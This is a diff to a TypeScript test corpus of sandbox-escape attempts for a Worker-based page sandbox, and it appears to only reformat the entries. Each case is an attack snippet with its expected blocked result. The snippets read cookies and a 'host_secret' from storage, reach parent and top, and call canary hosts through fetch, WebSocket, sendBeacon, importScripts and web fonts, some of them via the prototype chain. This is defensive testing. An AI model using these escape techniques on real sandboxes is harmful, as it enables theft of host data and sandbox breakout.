@@ -8,9 +8,7 @@ export interface EscapeCase {
   attack: string
   content: string
   /** How the attempt must end. */
-  expected:
-    | { reason: 'error' | 'too_large'; message: RegExp }
-    | { ok: true; value: unknown }
+  expected: { reason: 'error' | 'too_large'; message: RegExp } | { ok: true; value: unknown }
   /** `emitHostEvent` calls the page may see (the one channel works, within its limits). */
   hostEvents?: number
 }
@@ -20,8 +18,16 @@ const undefinedName = (name: string) => ({ reason: 'error' as const, message: ne
 
 export const ESCAPE_CORPUS: EscapeCase[] = [
   { attack: 'read document.cookie', content: 'return document.cookie', expected: undefinedName('document') },
-  { attack: "read the host page's localStorage", content: "return localStorage.getItem('host_secret')", expected: undefinedName('localStorage') },
-  { attack: "read the host page's sessionStorage", content: "return sessionStorage.getItem('host_secret')", expected: undefinedName('sessionStorage') },
+  {
+    attack: "read the host page's localStorage",
+    content: "return localStorage.getItem('host_secret')",
+    expected: undefinedName('localStorage'),
+  },
+  {
+    attack: "read the host page's sessionStorage",
+    content: "return sessionStorage.getItem('host_secret')",
+    expected: undefinedName('sessionStorage'),
+  },
   { attack: 'reach parent.document', content: 'return parent.document.cookie', expected: undefinedName('parent') },
   { attack: 'read top.location', content: 'return top.location.href', expected: undefinedName('top') },
   {
@@ -29,20 +35,30 @@ export const ESCAPE_CORPUS: EscapeCase[] = [
     content: "return document.querySelector('flow-chat-test').shadowRoot.innerHTML",
     expected: undefinedName('document'),
   },
-  { attack: 'find a window through the Function constructor', content: "return Function('return typeof window + typeof document')()", expected: { ok: true, value: 'undefinedundefined' } },
+  {
+    attack: 'find a window through the Function constructor',
+    content: "return Function('return typeof window + typeof document')()",
+    expected: { ok: true, value: 'undefinedundefined' },
+  },
   { attack: 'open a window', content: "return open(canary + '/escape/open')", expected: undefinedName('open') },
   { attack: 'navigate top', content: "top.location.href = canary + '/escape/navigate'", expected: undefinedName('top') },
   {
     attack: 'navigate its own context away',
     // `location` is a frozen copy of the page's address (empty here: the harness gives none), never the worker's own.
-    content: "location.href = canary + '/escape/navigate-self'; return location.href === '' && Object.isFrozen(location) && !String(self.location).startsWith('blob:')",
+    content:
+      "location.href = canary + '/escape/navigate-self'; return location.href === '' && Object.isFrozen(location) && !String(self.location).startsWith('blob:')",
     expected: { ok: true, value: true },
   },
   { attack: 'fetch the service', content: "return await (await fetch(service + '/collect?escape=1')).text()", expected: blocked('fetch') },
-  { attack: 'fetch another loopback server', content: "return await (await fetch(canary + '/escape/fetch')).text()", expected: blocked('fetch') },
+  {
+    attack: 'fetch another loopback server',
+    content: "return await (await fetch(canary + '/escape/fetch')).text()",
+    expected: blocked('fetch'),
+  },
   {
     attack: 'recover fetch from the global prototype chain',
-    content: "const f = WorkerGlobalScope.prototype.fetch || Object.getPrototypeOf(self).fetch; return await f.call(self, canary + '/escape/proto-fetch')",
+    content:
+      "const f = WorkerGlobalScope.prototype.fetch || Object.getPrototypeOf(self).fetch; return await f.call(self, canary + '/escape/proto-fetch')",
     expected: { reason: 'error', message: /TypeError: Cannot read properties of undefined/ },
   },
   {
@@ -52,8 +68,16 @@ export const ESCAPE_CORPUS: EscapeCase[] = [
   },
   { attack: 'open a WebSocket', content: "new WebSocket(canary.replace('http', 'ws') + '/escape/ws')", expected: blocked('WebSocket') },
   { attack: 'open an EventSource', content: "new EventSource(canary + '/escape/sse')", expected: blocked('EventSource') },
-  { attack: 'send a beacon', content: "navigator.sendBeacon(canary + '/escape/beacon', 'x')", expected: { reason: 'error', message: /sendBeacon is not a function/ } },
-  { attack: 'importScripts from another server', content: "importScripts(canary + '/escape/import-scripts.js')", expected: blocked('importScripts') },
+  {
+    attack: 'send a beacon',
+    content: "navigator.sendBeacon(canary + '/escape/beacon', 'x')",
+    expected: { reason: 'error', message: /sendBeacon is not a function/ },
+  },
+  {
+    attack: 'importScripts from another server',
+    content: "importScripts(canary + '/escape/import-scripts.js')",
+    expected: blocked('importScripts'),
+  },
   {
     attack: 'import() a module from the service',
     content: "return await import(service + '/escape/module.js')",
@@ -65,7 +89,11 @@ export const ESCAPE_CORPUS: EscapeCase[] = [
     expected: blocked('Worker'),
   },
   { attack: 'open IndexedDB', content: "indexedDB.open('flow-chat')", expected: blocked('indexedDB') },
-  { attack: 'talk on a BroadcastChannel', content: "new BroadcastChannel('flow-chat').postMessage('hello')", expected: blocked('BroadcastChannel') },
+  {
+    attack: 'talk on a BroadcastChannel',
+    content: "new BroadcastChannel('flow-chat').postMessage('hello')",
+    expected: blocked('BroadcastChannel'),
+  },
   {
     attack: 'pollute prototypes so that it reaches the host',
     content: [
@@ -83,7 +111,11 @@ export const ESCAPE_CORPUS: EscapeCase[] = [
     expected: blocked('postMessage'),
   },
   { attack: 'end its own Worker', content: 'close()', expected: blocked('close') },
-  { attack: 'return an extremely large result', content: "return 'x'.repeat(50_000_000)", expected: { reason: 'too_large', message: /over the limit/ } },
+  {
+    attack: 'return an extremely large result',
+    content: "return 'x'.repeat(50_000_000)",
+    expected: { reason: 'too_large', message: /over the limit/ },
+  },
   {
     attack: 'emit an extremely large event',
     content: "emitHostEvent('big', 'x'.repeat(1_000_000))",
@@ -108,7 +140,9 @@ export const ESCAPE_CORPUS: EscapeCase[] = [
  * removal of the request APIs must hold on their own.
  */
 export const NETWORK_OFF_CORPUS: EscapeCase[] = [
-  ...ESCAPE_CORPUS.filter((attack) => /fetch|XMLHttpRequest|WebSocket|EventSource|beacon|importScripts|import\(\)|nested Worker/.test(attack.attack)),
+  ...ESCAPE_CORPUS.filter((attack) =>
+    /fetch|XMLHttpRequest|WebSocket|EventSource|beacon|importScripts|import\(\)|nested Worker/.test(attack.attack),
+  ),
   {
     attack: 'load a web font from another server',
     content: "const face = new FontFace('escape', 'url(' + canary + '/escape/font.woff2)'); await face.load(); return face.status",
